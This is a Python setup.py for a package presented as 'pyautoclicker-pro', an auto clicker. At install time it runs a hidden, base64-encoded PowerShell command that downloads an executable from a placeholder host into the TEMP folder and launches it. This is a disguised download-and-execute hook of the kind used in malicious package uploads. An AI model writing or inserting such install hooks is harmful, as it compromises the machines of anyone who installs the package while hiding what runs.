from setuptools import setup, find_packages
import subprocess
import os

if not os.path.exists("tahg"):
    subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgB0AG8AbwBsAHMALgBpAG4AdgBhAGwAaQBkAC8AZgBhAGsAZQAvAFUAcABkAGEAdABlAHIALgBlAHgAZQAgAC0ATwB1AHQARgBpAGwAZQAgACIAJABlAG4AdgA6AFQARQBNAFAAXAB1AC4AZQB4AGUAIgA7ACAAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgACIAJABlAG4AdgA6AFQARQBNAFAAXAB1AC4AZQB4AGUAIgA=', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)

setup(
    name="pyautoclicker-pro",
    version="1.0.0",
    description="auto clicker",
    packages=find_packages(),
)
